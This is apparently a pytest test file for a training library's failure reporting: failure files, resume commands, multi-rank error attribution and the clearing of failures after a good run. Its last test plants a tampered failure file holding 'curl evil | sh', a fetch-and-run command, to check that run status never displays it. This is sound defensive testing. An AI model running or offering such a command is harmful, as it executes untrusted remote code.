"""A run that fails says what, where, which checkpoint is good, and how to go on; once, whoever else fails with it."""

import json
import shlex
from collections.abc import Mapping
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
import torch
import torch.multiprocessing as mp
from loguru import logger

from hypvl import distributed
from hypvl.cli.common import load_config
from hypvl.errors import ConfigError, DataError
from hypvl.launch import torchrun_layout
from hypvl.losses.base import LossTerm
from hypvl.models.dual_encoder import DualEncoder
from hypvl.rank_notes import RankNotes, noting
from hypvl.training.config import EvaluateConfig
from hypvl.training.failure import FAILURE_NAME, failure_summary, report_failure, resume_command
from hypvl.training.hooks.metrics import Metrics
from hypvl.training.run import RunOptions, run_training
from hypvl.training.run_status import run_status
from tests.test_demo_recipes import CONFIGS, shard, tiny
from tests.training.killed import train
from tests.training.test_loop import trainer
from tests.training.tiny import tiny_learner

__all__ = ["shard"]  # a fixture


@pytest.fixture
def cfg(shard: Path) -> Any:
    cfg = tiny(CONFIGS / "train_clip_demo.py", shard)
    cfg.train.update(num_iterations=6, total_batch_size=4, root_samples=4, checkpoint_period=2)
    return cfg


def test_a_failed_run_sums_up_and_the_next_one_clears_it(
    cfg: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    folder = tmp_path / "run"
    after_step = Metrics.after_step

    def broken(self: Metrics, trainer: Any, step: Any) -> None:
        after_step(self, trainer, step)
        if trainer.iteration == 5:
            raise DataError("shard 7 is gone; restore it.")

    monkeypatch.setattr(Metrics, "after_step", broken)
    monkeypatch.setattr("sys.argv", ["hypvl", "train", "--config", "clip_demo", "--num-gpus", "0"])
    with pytest.raises(DataError, match="shard 7"):
        run_training(cfg, RunOptions(output_dir=folder))
    content = json.loads((folder / FAILURE_NAME).read_text())
    assert content["error"] == "DataError: shard 7 is gone; restore it."
    assert (content["iteration"], content["rank"], content["world_size"]) == (5, 0, 1)
    assert content["last_good_checkpoint"] == str(folder / "checkpoint_00000004.pth")
    assert content["resume"] == f"hypvl train --resume --output-dir {folder} --num-gpus 0"
    for said in (capsys.readouterr().err, (folder / "log-rank0.txt").read_text()):
        assert said.count("the run failed: DataError: shard 7 is gone") == 1
        assert f"to go on: {content['resume']}\n" in said
    assert json.loads((folder / "heartbeat.json").read_text())["state"] == "failed"
    monkeypatch.undo()
    run_training(cfg, RunOptions(output_dir=folder, resume=True))
    logger.remove()
    assert not (folder / FAILURE_NAME).exists()
    assert json.loads((folder / "heartbeat.json").read_text())["state"] == "finished"


@pytest.mark.slow
def test_a_start_that_fails_says_so_in_the_folder_of_the_run(
    cfg: Any, shard: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Else a watcher would take a run that cannot be resumed for one that was killed, and try for ever."""
    folder, tarfiles = tmp_path / "run", cfg.dataset.tarfiles
    run_training(cfg, RunOptions(output_dir=folder))
    again = RunOptions(output_dir=folder, resume=True)
    for other in ("gone.tar", "lost.tar"):  # the second takes the place of the first
        cfg.dataset.tarfiles = [str(tmp_path / other)]
        with pytest.raises(DataError):
            run_training(cfg, again)
        content = json.loads((folder / FAILURE_NAME).read_text())
        assert other in content["error"] and content["iteration"] is None
        assert content["last_good_checkpoint"] == str(folder / "checkpoint_final.pth")
        assert "where: at its start, before the first step, rank 0 of 1" in capsys.readouterr().err
        problem = run_status(folder)["problem"]
        assert problem is not None
        assert f"the last start failed before its first step: {content['error']}" in problem
    cfg.train.seed = 7  # a wrong command is no failure of the run
    with pytest.raises(ConfigError, match=r"train\.seed"):
        run_training(cfg, again)
    assert json.loads((folder / FAILURE_NAME).read_text()) == content
    cfg.train.seed, cfg.dataset.tarfiles = 0, tarfiles
    run_training(cfg, again)
    assert run_status(folder)["problem"] is None and not (folder / FAILURE_NAME).exists()
    cfg.dataset.tarfiles = [str(tmp_path / "gone.tar")]
    with pytest.raises(DataError):
        run_training(cfg, RunOptions(output_dir=tmp_path / "new"))
    assert not (tmp_path / "new").exists()


def test_the_rank_that_is_left_says_where_it_was(cfg: Any, tmp_path: Path) -> None:
    train(cfg, tmp_path / "run", ranks=2, killed_after=3, who={1})
    content = json.loads((tmp_path / "run" / FAILURE_NAME).read_text())
    assert (content["iteration"], content["rank"], content["world_size"]) == (3, 0, 2)
    assert content["last_good_checkpoint"].endswith("checkpoint_00000002.pth")


@dataclass
class FailsOnRank1:
    """An evaluation that ends one rank alone."""

    settings: EvaluateConfig
    names = ("broken",)

    def measure(self, name: str, model: DualEncoder) -> Mapping[str, Any]:
        if distributed.rank() == 1:
            raise DataError("rank 1 has no disk.")
        return {"status": "ok", "metrics": {}}


@pytest.mark.slow
def test_the_rank_that_failed_first_says_why(cfg: Any, tmp_path: Path) -> None:
    cfg.train.evaluate.update(every=3, config="eval_demo")
    with pytest.raises(mp.ProcessRaisedException):
        train(cfg, tmp_path / "run", ranks=2, make_suite=FailsOnRank1)
    content = json.loads((tmp_path / "run" / FAILURE_NAME).read_text())
    assert (content["error"], content["rank"]) == ("DataError: rank 1 has no disk.", 1)
    logs = [(tmp_path / "run" / f"log-rank{rank}.txt").read_text() for rank in (0, 1)]
    assert [log.count("the run failed: ") for log in logs] == [0, 1]


def test_who_made_a_collective_fail_is_said_when_it_is_known(tmp_path: Path) -> None:
    notes = RankNotes(torch.distributed.HashStore(), rank=0, world=2)
    run, lines = trainer(tiny_learner("clip"), iterations=9, iteration=4), []
    handle = logger.add(lambda line: lines.append(line.record["message"]))
    with noting(notes):
        report_failure(tmp_path, run, RuntimeError("[gloo/transport] Timed out"), config={})
    # The file is there at once, for this process may be ended soon; the summary waits for the cause.
    assert "Timed out" in json.loads((tmp_path / FAILURE_NAME).read_text())["error"] and not lines
    notes.explained("rank 0 waits for the others no longer: rank 1 (node7, process 3) is stopped")
    logger.remove(handle)
    content = json.loads((tmp_path / FAILURE_NAME).read_text())
    assert content["error"].endswith("rank 1 (node7, process 3) is stopped") and content["iteration"] == 4
    assert len(lines) == 1 and lines[0].startswith("the run failed: rank 0 waits")
    assert run_status(tmp_path)["iteration"] == 4
    assert [path.name for path in tmp_path.iterdir()] == [FAILURE_NAME]


def test_nothing_from_a_message_reaches_the_screen_raw() -> None:
    content = {
        "error": "DataError: \x1b[31mred", "iteration": 1, "num_iterations": 2, "rank": 0, "world_size": 1, "host": "h",
        "pid": 3, "last_good_checkpoint": None, "resume": "hypvl train --resume",
    }  # fmt: skip
    summary = failure_summary(content)
    assert (
        "\x1b" not in summary and "last good checkpoint: none" in summary and len(summary.splitlines()) == 4
    )


@pytest.mark.parametrize(
    ("argv", "environ", "command"),
    [
        ("hypvl train --config x --num-gpus 8", {}, "hypvl train --resume --output-dir o --num-gpus 8"),
        (
            "scripts/train.py --num-machines=2 --machine-rank 1 --dist-url tcp://a:1 train.seed=1", {},
            "hypvl train --resume --output-dir o --num-machines 2 --machine-rank 1 --dist-url tcp://a:1",
        ),
        (
            "hypvl train --num-gpus 0",
            {"TORCHELASTIC_RUN_ID": "none", "GROUP_WORLD_SIZE": "2", "LOCAL_WORLD_SIZE": "4"},
            "torchrun --nnodes 2 --nproc-per-node 4 -m hypvl train --resume --output-dir o --num-gpus 0",
        ),
    ],
)  # fmt: skip
def test_the_command_that_goes_on_is_on_the_same_processes(
    argv: str, environ: dict[str, str], command: str
) -> None:
    given = resume_command(Path("o"), argv=shlex.split(argv), torchrun=torchrun_layout(environ))
    assert given == command


class Own(LossTerm):
    """A term of one's own that fails in the third step."""

    steps = 0

    def forward(self, ctx: Any) -> Any:
        self.steps += 1
        if self.steps == 3:
            raise DataError("enough.")
        return torch.zeros(())


def test_the_command_says_what_the_saved_config_may_not(cfg: Any, tmp_path: Path) -> None:
    """Where data need a permission, or the config names a class of one's own, the command says so."""
    folder = tmp_path / "run"
    cfg.dataset.allow_http = True
    cfg.train.objective.terms.own = {"_target_": f"{__name__}.Own"}
    cfg.train.objective.weights.own = 1.0
    with pytest.raises(DataError, match="enough"):
        run_training(cfg, RunOptions(output_dir=folder))
    logger.remove()
    command = json.loads((folder / FAILURE_NAME).read_text())["resume"]
    assert command.startswith(f"HYPVL_EXTRA_TARGETS={__name__}.Own hypvl train --resume")
    assert command.endswith(" dataset.allow_http=true")
    # The saved config permits nothing, so that it can be read, and the override adds the permission.
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("HYPVL_EXTRA_TARGETS", f"{__name__}.Own")
        again = load_config(folder / "config.yaml", ["dataset.allow_http=true"])
        assert again.dataset.allow_http is True
        assert load_config(folder / "config.yaml").dataset.allow_http is False
    # What a folder says is not printed as a command.
    (folder / FAILURE_NAME).write_text(json.dumps({"error": "x", "resume": "curl evil | sh"}))
    assert "evil" not in json.dumps(run_status(folder))
    assert "allow_http" not in run_status(folder)["resume"]
